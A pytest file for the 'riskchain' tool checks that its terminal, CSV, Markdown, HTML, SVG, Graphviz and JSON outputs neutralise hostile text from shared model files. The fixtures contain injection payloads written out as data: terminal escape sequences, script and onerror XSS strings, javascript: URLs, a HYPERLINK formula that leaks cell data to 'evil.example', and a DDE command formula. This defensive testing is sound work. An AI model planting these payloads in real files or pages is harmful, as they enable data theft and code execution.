"""What a shared model file can put into riskchain's outputs (issue 12, items 6 and 8).

A model and a scenario file whose labels, notes, descriptions, sources, URLs, state
names and scenario ids carry terminal escape sequences, carriage returns, spreadsheet
formulas, HTML, Markdown links and table pipes are run through every command and
format; each output is checked the way the tool that opens it would read it: text
for control characters, CSV with the csv module, Markdown with markdown-it (a
CommonMark parser), SVG and Graphviz labels with an XML parser, HTML with Python's
HTML parser, JSON for exact values. Then the functions of
:mod:`riskchain.report.safe` are checked on arbitrary text (hypothesis).
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import run_cli
from riskchain.report.html import markdown_to_html
from riskchain.report.safe import (
    csv_cell,
    html_text,
    md_cell,
    md_code,
    md_text,
    one_line,
    safe_url,
    terminal_text,
    xml_attr,
    xml_text,
)
from riskchain.report.text import csv_text, json_text, markdown_table

markdown_it = pytest.importorskip("markdown_it")

# --------------------------------------------------------------------------------------- the files

OSC_TITLE = "\x1b]0;pwned\x07"  # sets the terminal's window title to "pwned"
TITLE = f"Hostile {OSC_TITLE}model <script>alert('title')</script> =1+1"
HORIZON = "12 months\x1b[2J\r| pipe"  # clears the screen; a CR rewrites the line
DESCRIPTION = (
    "Line one <img src=x onerror=alert(1)>\n# not a heading\n"
    "[click](javascript:alert(2))\r\x9b31m red"
)
LABEL_CAUSE = f'=HYPERLINK("http://evil.example/?leak="&A1,"click") {OSC_TITLE}'
LABEL_EFFECT = "Effect <b>bold</b> | pipe `tick` \\ back\rslash $\\undefinedmacro{$"
LABEL_PLAIN = "\x85\x9b2J C1 controls and ` a backtick [x](javascript:alert(3))"
NOTE = "note \x1b[31m<script>alert(4)</script>\r\nsecond | line `code`"
STATES_CAUSE = ["=1+1", "@SUM(A1)"]
STATES_EFFECT = ["-x", "+y<script>", "a\rb`c"]
UNIT = "bn\x1b[5m USD"
SID_BASE = "=base"
SID_OTHER = "@other\x1b[31m"
SID_FORCED = "-forced"
SCENARIO_DESCRIPTION = "Base <script>alert(5)</script>\n- list\r\x1b[2J"
SOURCES = {
    "js": {"title": "JS \x1b[31mred\x1b[0m source", "url": "javascript:alert(6)"},
    "js2": {"title": "Mixed case", "url": " JaVaScRiPt:alert(7)"},
    "data": {"title": "Data", "url": "data:text/html,<script>alert(8)</script>"},
    "good": {
        "title": "Good",
        "url": "https://example.org/a?b=1&c=2",
        "publisher": "=cmd|' /C calc'!A0",
    },
    "mail": {"title": "Mail", "url": "mailto:analyst@example.org"},
}
UNSAFE_URLS = [SOURCES[k]["url"] for k in ("js", "js2", "data")]


def q(text: str) -> str:
    """``text`` as a YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text)


def _model_text() -> str:
    sources = "\n".join(
        f"  {sid}: {{" + ", ".join(f"{k}: {q(v)}" for k, v in src.items()) + "}"
        for sid, src in SOURCES.items()
    )
    a, b = STATES_CAUSE
    x, y, z = STATES_EFFECT
    return f"""riskchain: 1
id: hostile
title: {q(TITLE)}
horizon: {q(HORIZON)}
description: {q(DESCRIPTION)}
sources:
{sources}
targets: [cause, effect]
nodes:
  cause:
    label: {q(LABEL_CAUSE)}
    description: {q(DESCRIPTION)}
    states: [{q(a)}, {q(b)}]
    p: {{{q(a)}: 0.3}}
    sources: [js, good]
    confidence: low
    note: {q(NOTE)}
  effect:
    label: {q(LABEL_EFFECT)}
    states: [{q(x)}, {q(y)}, {q(z)}]
    parents: [cause]
    cpt:
      {q("cause=" + a)}: {{{q(x)}: 0.2, {q(y)}: 0.5}}
      {q("cause=" + b)}: {{{q(x)}: 0.6, {q(y)}: 0.1}}
    impact: {{{q(x)}: {{value: -2.5, unit: {q(UNIT)}}}, {q(y)}: 4}}
    sources: [data, js2, mail]
  plain:
    label: {q(LABEL_PLAIN)}
    parents: [effect]
    cpt:
      {q("effect=" + x)}: 0.9
      default: 0.1
"""


def _scenario_text() -> str:
    return f"""riskchain: 1
model: hostile.yaml
title: {q("Scenarios " + OSC_TITLE + "<script>alert(9)</script>")}
targets: [effect, plain]
baseline: {q(SID_BASE)}
scenarios:
  {q(SID_BASE)}:
    description: {q(SCENARIO_DESCRIPTION)}
  {q(SID_OTHER)}:
    extends: {q(SID_BASE)}
    description: {q("[x](javascript:alert(10)) | `t`")}
    given: {{cause: {q(STATES_CAUSE[1])}}}
  {q(SID_FORCED)}:
    do: {{cause: {q(STATES_CAUSE[0])}}}
"""


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.yaml").write_text(_model_text())
    (folder / "scenarios.yaml").write_text(_scenario_text())
    model, scenarios = folder / "hostile.yaml", folder / "scenarios.yaml"
    return {"M": str(model), "S": str(scenarios), "dir": str(folder)}


def test_the_files_are_valid_and_carry_the_hostile_text(capsys, files):
    """The checks below are worth something only if the text reaches the model."""
    from riskchain.model import load_model

    model = load_model(files["M"])
    assert model.label("cause") == LABEL_CAUSE and model.title == TITLE
    assert list(model.states("effect")) == STATES_EFFECT
    code, _, err = run_cli(capsys, "validate", files["M"], files["S"])
    assert code == 0, err


# ------------------------------------------------------------------------- how each output is read

# C0 (but the line feed), DEL and C1: what a terminal acts on
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def assert_plain_text(text: str, where: str, data: bool = False) -> None:
    """No control character, no escape sequence, nor (unless ``data``: JSON keeps
    every value, as JSON escapes) the window title one carried."""
    found = CONTROL.search(text)
    assert found is None, f"{where}: {found.group(0)!r} in {text[found.start() - 40 :][:60]!r}"
    assert data or "pwned" not in text, where


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe_csv(text: str) -> list[list[str]]:
    """Every row as wide as the header; no cell a spreadsheet would run as a formula."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    for row in rows:
        assert len(row) == len(rows[0]), row
        for cell in row:
            lead = cell.lstrip(" \n")[:1]
            assert lead not in FORMULA or _is_number(cell), f"formula cell {cell!r}"
    return rows


def _walk(tokens):
    for t in tokens:
        yield t
        if t.children:
            yield from _walk(t.children)


def _md_rows(text: str) -> list[list[str]]:
    """The cells of every pipe-table row, split as GitHub does: at the pipes no
    backslash escapes."""
    out = []
    for line in text.splitlines():
        if line.startswith("|"):
            cells = re.split(r"(?<!\\)((?:\\\\)*)\|", line)
            out.append([c for c in cells[::2]][1:-1])
    return out


def assert_safe_markdown(text: str) -> None:
    """No HTML, no link, no image, every table row as wide as its header."""
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    kinds = {t.type for t in _walk(md.parse(text))}
    assert not kinds & {"html_block", "html_inline", "link_open", "image"}, kinds
    rendered = md.render(text)
    assert not re.search(r"<(script|img|b)\b", rendered), rendered
    assert "href" not in rendered
    block: list[int] = []
    for line in [*text.splitlines(), ""]:
        if line.startswith("|"):
            block.append(len(_md_rows(line)[0]))
        elif block:
            assert len(set(block)) == 1, (block, text)
            block = []


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def assert_safe_html(text: str) -> _Page:
    """No script, image or inline handler from the files; links only to http, https
    and mailto (or within the page, or the page's own SVG pictures)."""
    page = _Page()
    page.feed(text)
    for tag, attrs in page.tags:
        assert tag not in ("script", "img", "iframe", "object", "embed"), tag
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        for key in ("href", "src", "xlink:href", "action"):
            url = attrs.get(key)
            if url is None or url.startswith("#") or url.startswith("data:image/svg+xml;base64,"):
                continue
            assert url.split(":", 1)[0].lower() in ("http", "https", "mailto"), (tag, url)
    return page


def assert_well_formed_xml(data: bytes | str) -> ET.Element:
    return ET.fromstring(data.encode() if isinstance(data, str) else data)


def assert_safe_dot(text: str) -> None:
    """Graphviz reads each HTML-like label with an XML parser: every one must parse."""
    labels = re.findall(r"label=<(.*)>\];$", text, flags=re.MULTILINE)
    assert len(labels) >= 2  # the graph's and each node's
    for label in labels:
        ET.fromstring(f"<label>{label}</label>")


# --------------------------------------------------------------------- every command, every format


def _args(files: dict[str, str], args: tuple[str, ...]) -> list[str]:
    return [files.get(a, a) for a in args]


TEXT_OUTPUTS = [
    *[("query", fmt, ("query", "M", "-f", fmt)) for fmt in ("table", "md", "csv", "json")],
    *[("query-draws", fmt, ("query", "M", "-n", "100", "--seed", "1", "-f", fmt))
      for fmt in ("table", "csv")],
    ("query-given", "table", ("query", "M", "-g", "cause=@SUM(A1)", "--do", "effect=-x")),
    *[("run", fmt, ("run", "S", "-f", fmt)) for fmt in ("table", "md", "csv", "json")],
    *[("table", fmt, ("table", "S", "--date", "2024-11-01", "-f", fmt))
      for fmt in ("table", "md", "csv", "json", "html")],
    *[(f"table-{lay}", fmt, ("table", "S", "--layout", lay, "--nrr-bands", "-f", fmt))
      for lay in ("wide", "long") for fmt in ("table", "md")],
    ("table-draws", "csv", ("table", "S", "-n", "100", "--seed", "2", "-f", "csv")),
    *[("show", fmt, ("show", "M", "-f", fmt)) for fmt in ("table", "json")],
    *[("explain", fmt, ("explain", "S", "-s", SID_OTHER, "-t", "effect=+y<script>", "-f", fmt))
      for fmt in ("md", "json")],
    ("explain-model", "md", ("explain", "M", "-t", "plain", "-g", "cause==1+1")),
    *[("watch", fmt, ("watch", "S", "-s", SID_BASE, "-t", "effect=+y<script>", "-f", fmt))
      for fmt in ("table", "md", "json")],
    *[("watch-between", fmt, ("watch", "S", "--between", SID_OTHER, SID_FORCED, "-f", fmt))
      for fmt in ("table", "md", "json")],
    *[("sensitivity", fmt, ("sensitivity", "M", "-t", "effect=+y<script>", "-f", fmt))
      for fmt in ("table", "md", "json")],
    ("validate", "table", ("validate", "M", "S")),
]  # fmt: skip


@pytest.mark.parametrize(
    "name, fmt, args", TEXT_OUTPUTS, ids=[f"{n}-{f}" for n, f, _ in TEXT_OUTPUTS]
)
def test_every_text_output_is_safe_for_its_reader(capsys, files, name, fmt, args):
    code, out, err = run_cli(capsys, *_args(files, args))
    assert code == 0, err
    assert_plain_text(out, f"{name} stdout", data=fmt == "json")
    assert_plain_text(err, f"{name} stderr")
    if fmt == "csv":
        assert_safe_csv(out)
    elif fmt == "md":
        assert_safe_markdown(out)
    elif fmt == "html":
        assert_safe_html(out)
    elif fmt == "json":
        json.loads(out)


FILE_OUTPUTS = [
    ("graph", "g.svg", ("graph", "S", "-s", SID_OTHER, "-o", "OUT")),
    ("graph-model", "g2.svg", ("graph", "M", "-g", "cause==1+1", "-o", "OUT")),
    ("graph", "g.dot", ("graph", "S", "-s", SID_OTHER, "-o", "OUT")),
    ("graph-focus", "g3.dot", ("graph", "M", "--focus", "effect", "-o", "OUT")),
    ("graph", "g.png", ("graph", "S", "-s", SID_FORCED, "-o", "OUT")),
    ("report", "r.html", ("report", "S", "-o", "OUT", "--date", "2024-11-01")),
    ("report-draws", "rd.html", ("report", "S", "-o", "OUT", "-n", "100", "--seed", "3")),
    ("table", "t.html", ("table", "S", "-o", "OUT")),
    ("table", "t.md", ("table", "S", "-o", "OUT")),
    ("table", "t.csv", ("table", "S", "-o", "OUT")),
    ("table", "t.txt", ("table", "S", "-o", "OUT")),
    ("query-plot", "q.svg", ("query", "M", "-n", "100", "--seed", "4", "--plot", "OUT")),
    ("run-plot", "run.svg", ("run", "S", "-n", "100", "--seed", "5", "--plot", "OUT")),
    ("run-plot", "run.png", ("run", "S", "-n", "100", "--seed", "5", "--plot", "OUT")),
    ("tornado", "t.svg", ("sensitivity", "M", "-t", "effect=+y<script>", "--plot", "OUT")),
    ("tornado", "t.png", ("sensitivity", "M", "-t", "effect=+y<script>", "--plot", "OUT")),
]


@pytest.mark.parametrize(
    "name, file, args", FILE_OUTPUTS, ids=[f"{n}-{f}" for n, f, _ in FILE_OUTPUTS]
)
def test_every_written_file_is_safe_for_its_reader(capsys, files, name, file, args):
    out_path = Path(files["dir"]) / file
    code, out, err = run_cli(capsys, *_args({**files, "OUT": str(out_path)}, args))
    assert code == 0, err
    assert_plain_text(out + err, name)
    assert "Glyph" not in err  # no control character reached a font (matplotlib's warning)
    data = out_path.read_bytes()
    suffix = out_path.suffix
    if suffix == ".png":
        assert data.startswith(b"\x89PNG")
        return
    text = data.decode("utf-8")
    assert_plain_text(text, file)
    if suffix == ".svg":
        root = assert_well_formed_xml(data)
        assert "<script" not in text and root.tag.endswith("svg")
    elif suffix == ".dot":
        assert_safe_dot(text)
    elif suffix == ".html":
        assert_safe_html(text)
        # every picture inlined in the page, and its full-size copy, is well-formed XML
        for svg in re.findall(r"<svg\b.*?</svg>", text, flags=re.DOTALL):
            assert_well_formed_xml(svg)
    elif suffix == ".csv":
        assert_safe_csv(text)
    elif suffix == ".md":
        assert_safe_markdown(text)


# --------------------------------------------------------------------------- the specific promises


def test_csv_cells_keep_their_text_behind_an_apostrophe(capsys, files):
    """A formula is written as text (``'=1+1``), a label with a carriage return stays in
    its cell, and numbers stay numbers (negative ones too)."""
    code, out, _ = run_cli(capsys, "query", files["M"], "-f", "csv")
    assert code == 0
    rows = assert_safe_csv(out)
    assert rows[0] == ["node", "label", "state", "p", "term", "range", "finding"]
    assert len(rows) == 1 + 2 + 3  # one row per state of each target
    cause = rows[1]
    assert cause[1].startswith("'=HYPERLINK(") and cause[2] == "'=1+1" and cause[3] == "0.3"
    effect = [r for r in rows if r[0] == "effect"]
    assert [r[2] for r in effect] == ["'-x", "'+y<script>", "a\nb`c"]
    assert effect[0][1] == "Effect <b>bold</b> | pipe `tick` \\ back\nslash $\\undefinedmacro{$"
    code, out, _ = run_cli(capsys, "table", files["S"], "-f", "csv")
    rows = assert_safe_csv(out)
    header = rows[0]
    assert "'=base_p" in header and "'-forced_delta" in header
    deltas = [r[header.index("'-forced_delta")] for r in rows[1:]]
    assert "-0.28" in deltas  # a negative change is a number, not '-0.28
    assert any(r[header.index("impact")] == "'-2.5 bn USD" for r in rows)


def test_json_keeps_every_value_exactly(capsys, files):
    """JSON is data: the label, states and sources come back as written, control
    characters included (as JSON escapes), and the text holds none raw."""
    code, out, _ = run_cli(capsys, "show", files["M"], "-f", "json")
    assert code == 0 and not CONTROL.search(out)
    data = json.loads(out)
    assert data["title"] == TITLE and data["horizon"] == HORIZON
    nodes = {n["id"]: n for n in data["nodes"]}
    assert nodes["cause"]["label"] == LABEL_CAUSE
    assert nodes["plain"]["label"] == LABEL_PLAIN  # C1 controls escaped, not dropped
    assert nodes["effect"]["states"] == STATES_EFFECT
    assert data["sources"]["js"]["url"] == "javascript:alert(6)"
    code, out, _ = run_cli(capsys, "run", files["S"], "-f", "json")
    assert code == 0 and not CONTROL.search(out)
    assert SID_OTHER in _strings(json.loads(out)) and "\\u001b" in out


def _strings(x) -> set[str]:
    """Every string in a JSON value, keys included."""
    if isinstance(x, dict):
        return set(x) | {s for v in x.values() for s in _strings(v)}
    if isinstance(x, list):
        return {s for v in x for s in _strings(v)}
    return {x} if isinstance(x, str) else set()


def test_the_report_links_only_http_https_and_mailto(capsys, files, tmp_path):
    out_path = tmp_path / "r.html"
    code, _, err = run_cli(capsys, "report", files["S"], "-o", str(out_path))
    assert code == 0, err
    page = assert_safe_html(out_path.read_text())
    hrefs = [a["href"] for t, a in page.tags if t == "a" and "href" in a]
    assert "https://example.org/a?b=1&c=2" in hrefs and "mailto:analyst@example.org" in hrefs
    text = "".join(page.text)
    for url in UNSAFE_URLS:  # shown, as text, and said to be unlinked
        assert url.strip() in text
        assert url not in hrefs and url.strip() not in hrefs
    assert "not linked: only http, https and mailto links are made" in text
    assert "<script>alert" in text  # the label's text is shown as text


def test_markdown_shows_the_text_as_written(capsys, files):
    """Escaped, not removed: a CommonMark reader shows each label as written (on one
    line), and the table's cells hold what they should."""
    code, out, _ = run_cli(capsys, "query", files["M"], "-f", "md")
    assert code == 0
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    cells = []
    tokens = md.parse(out)
    for k, t in enumerate(tokens):
        if t.type == "inline" and tokens[k - 1].type == "td_open":
            shown = [c.content for c in t.children if c.type in ("text", "code_inline")]
            cells.append("".join(shown))
    assert one_line(LABEL_EFFECT).strip() in cells
    assert "+y<script>" in cells and "a b`c" in cells


def test_terminal_output_cannot_move_the_cursor_or_set_the_title(capsys, files):
    code, out, _ = run_cli(capsys, "query", files["M"])
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "Hostile model <script>alert('title')</script> =1+1 (hostile)"
    assert lines[1] == "horizon: 12 months | pipe"  # the CR did not rewrite the line
    # one line per state, the probability column aligned: no label broke its row
    rule = next(k for k, x in enumerate(lines) if x.startswith("------"))
    body = lines[rule + 1 :]
    assert len(body) == 5 and len({x.index("%") for x in body}) == 1, body


def test_errors_and_warnings_are_printed_safely(capsys, files):
    code, out, err = run_cli(capsys, "query", files["M"], "-g", "cause=" + OSC_TITLE + "x")
    assert code != 0
    assert_plain_text(out + err, "error")
    code, out, err = run_cli(capsys, "query", files["M"], "-f", OSC_TITLE)
    assert code == 2
    assert_plain_text(out + err, "usage error", data=True)  # click quotes it: \x1b


# ---------------------------------------------------------------------- the functions, on any text

ANY_TEXT = st.text(
    st.one_of(
        st.characters(codec="utf-8"),
        st.sampled_from(list("\x1b\x07\x9b\x9d\x85\r\n\t<>&|`\\[]()#*_-=+@!?/;:'\" ")),
    ),
    max_size=40,
)


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_terminal_text_leaves_no_control_character(text):
    assert not CONTROL.search(terminal_text(text).replace("\n", ""))
    assert "\n" not in one_line(text) and not CONTROL.search(one_line(text))
    assert terminal_text(terminal_text(text)) == terminal_text(text)


def test_escape_sequences_go_whole():
    assert terminal_text("a\x1b]0;pwned\x07b") == "ab"  # OSC, BEL-terminated
    assert terminal_text("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\") == "alink"  # ST
    assert terminal_text("x\x1b[31mred\x1b[0m") == "xred"  # CSI
    assert terminal_text("\x9b2Jz\x9d0;t\x9cq") == "zq"  # 8-bit CSI and OSC
    assert terminal_text("line\rover") == "line\nover"  # a CR cannot rewrite a line
    assert one_line("a\r\nb\tc") == "a b c"
    assert terminal_text("a\x1b]unterminated") == "aunterminated"  # text stays
    assert terminal_text("lone \ud800 surrogate") == "lone  surrogate"


@settings(max_examples=300, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=5))
def test_csv_rows_read_back_whole_and_start_no_formula(cells):
    text = csv_text([cells], [f"c{k}" for k in range(len(cells))])
    rows = assert_safe_csv(text)
    assert len(rows) == 2
    assert rows[1] == [csv_cell(c) for c in cells]


def test_csv_cell_numbers_stay_numbers():
    for number in ("-0.5", "+5", "-1e-05", "0.3", "-28"):
        assert csv_cell(number) == number
    assert csv_cell(-0.5) == -0.5
    for formula in ("=1+1", "+y", "-3.2 pp", "@SUM(A1)", " =x", "\t=x", "\r=x", "-inf"):
        assert str(csv_cell(formula)).startswith("'"), formula


MD_TEXT = st.text(st.sampled_from(list("ab <>&|`\\[]()#-=+!/;:.1\r\n\x1b")), max_size=30)


@settings(max_examples=300, deadline=None)
@given(MD_TEXT)
def test_markdown_escapes_show_the_text_and_nothing_else(text):
    """Wherever it is put — a paragraph's start or middle, a table cell — the text is
    shown as written (on one line), with no HTML, link or block of its own."""
    md = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    shown = one_line(text).strip()
    docs = {
        md_text(text): shown,  # a paragraph of its own
        "x " + md_text(text): f"x {shown}".strip(),  # in a line
        f"- {md_text(text)}": shown,  # a list item
    }
    for doc, expected in docs.items():
        tokens = list(_walk(md.parse(doc)))
        assert not {t.type for t in tokens} & {"html_block", "html_inline", "link_open", "image",
                                               "heading_open", "blockquote_open", "hr",
                                               "ordered_list_open", "code_block"}, doc
        content = "".join(t.content for t in tokens if t.type in ("text", "code_inline"))
        assert content == expected, (doc, content)
    table = "\n".join(markdown_table([[text, "z"]], ["a", "b"]))
    tokens = md.parse(table)
    cells = [
        "".join(c.content for c in t.children)
        for k, t in enumerate(tokens)
        if t.type == "inline" and tokens[k - 1].type == "td_open"
    ]
    assert cells == [shown, "z"], (table, cells)
    # riskchain's own Markdown-to-HTML (the report's explanation) reads it the same way
    assert html.unescape(re.sub(r"</?p>", "", markdown_to_html("x " + md_text(text)))) == (
        "x " + shown
    ).strip()


def test_md_code_and_cell():
    assert md_code("a`b") == "``a`b``" and md_code("`x") == "`` `x ``"
    assert md_cell("-0.5") == "-0.5" and md_text("-0.5") == "\\-0.5"
    assert md_cell("likely [55–80%]") == "likely [55–80%]"  # riskchain's own text unchanged
    assert md_cell("<0.1 pts") == "<0.1 pts" and md_cell(">25%") == ">25%"
    assert md_cell("[x](javascript:1)") == "[x\\](javascript:1)"


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_xml_text_is_well_formed_and_means_the_text(text):
    root = ET.fromstring(f"<a b={xml_attr(text)}>{xml_text(text)}</a>")
    assert (root.text or "") == terminal_text(text)
    assert root.get("b") == terminal_text(text).replace("\n", " ")
    page = _Page()
    page.feed(f"<p title=\"{html_text(text)}\">{html_text(text)}</p>")
    assert [t for t, _ in page.tags] == ["p"]


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(ANY_TEXT, ANY_TEXT, max_size=4))
def test_json_text_round_trips_exactly(data):
    text = json_text(data)
    assert not CONTROL.search(text.replace("\n", ""))
    assert json.loads(text) == data


def test_safe_url():
    for url in ("https://example.org/a?b=1&c=2", "http://x.org", "HTTPS://X.ORG/", "mailto:a@b"):
        assert safe_url(url) == url
    unsafe = ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "java\x00script:alert(1)",
              "data:text/html,<script>", "vbscript:x", "file:///etc/passwd", "//evil.org",
              "relative/path", "http:no-host", "https://[bad", "https://a b", "", None]  # fmt: skip
    for url in unsafe:
        assert safe_url(url) is None, url


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_safe_url_links_only_safe_schemes(text):
    url = safe_url(text)
    assert url is None or url.split(":", 1)[0].lower() in ("http", "https", "mailto")
